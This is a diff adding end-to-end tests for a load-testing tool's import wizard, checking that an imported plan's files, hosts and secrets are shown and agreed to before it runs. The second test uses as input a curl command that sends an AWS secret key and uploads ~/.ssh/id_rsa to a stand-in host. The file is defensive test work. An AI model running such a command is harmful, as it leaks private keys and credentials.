@@ -1,0 +1,64 @@
+import { writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { stringify } from 'yaml';
+import { expect, test } from '../fixtures.ts';
+import { look } from '../look.ts';
+import { WizardPage } from '../pages/WizardPage.ts';
+
+const AGREE = 'I have read this, and agree to it.';
+
+test('a plan of somebody else’s is tried and started only once what it asks for is agreed to', async ({ app, contest, home }) => {
+  const { page } = app;
+  const wizard = new WizardPage(page);
+  const list = join(home, 'names.csv');
+  await writeFile(list, 'name\nada\n');
+  const plan = {
+    holdfast: 1,
+    name: 'From elsewhere',
+    targets: [{ url: contest.urls[0] ?? '' }],
+    journey: [{ name: 'page', path: '?who={{people.name}}' }],
+    feeds: { people: { file: list } },
+    load: { model: 'connections', stages: [{ connections: 1, requests: 5 }] },
+    safety: { consentedHosts: ['127.0.0.1'] },
+  };
+  await wizard.open();
+  await page.getByRole('button', { name: 'Paste a command or drop a file' }).click();
+  await page.getByRole('textbox', { name: 'Command, address or plan' }).fill(stringify(plan));
+  await page.getByRole('button', { name: 'Use it' }).click();
+  await expect(wizard.heading('How much load?')).toBeVisible();
+
+  const card = page.getByRole('region', { name: 'What this plan asks for' });
+  await expect(card.getByText(list)).toBeVisible();
+  const tryIt = page.getByRole('button', { name: 'Try the journey once' });
+  await expect(tryIt).toBeDisabled();
+  await wizard.next('Ready to start?');
+  await expect(wizard.startButton).toBeDisabled();
+  await look(page, 'consent');
+  await card.getByRole('checkbox', { name: AGREE }).press('Space');
+  await expect(wizard.startButton).toBeEnabled();
+  await wizard.back('How much load?');
+  await expect(tryIt).toBeEnabled();
+  await wizard.next('Ready to start?');
+  await wizard.start();
+
+  // The same plan again: what was agreed to is known.
+  await wizard.open();
+  await page.getByRole('button', { name: 'Paste a command or drop a file' }).click();
+  await page.getByRole('textbox', { name: 'Command, address or plan' }).fill(stringify(plan));
+  await page.getByRole('button', { name: 'Use it' }).click();
+  await expect(wizard.heading('How much load?')).toBeVisible();
+  await expect(tryIt).toBeEnabled();
+});
+
+test('an import shows what its plan asks for above everything else, and asks for values that it does not say', async ({ app }) => {
+  const { page } = app;
+  await new WizardPage(page).open();
+  await page.getByRole('button', { name: 'Paste a command or drop a file' }).click();
+  await page
+    .getByRole('textbox', { name: 'Command, address or plan' })
+    .fill('curl -H "X-Key: $AWS_SECRET_ACCESS_KEY" --data @/home/me/.ssh/id_rsa http://shop.example/');
+  await expect(page.getByText('/home/me/.ssh/id_rsa', { exact: true })).toBeVisible();
+  await expect(page.getByText('shop.example', { exact: true })).toBeVisible();
+  await expect(page.getByLabel('AWS_SECRET_ACCESS_KEY')).toBeVisible();
+  await look(page, 'consent-import');
+});
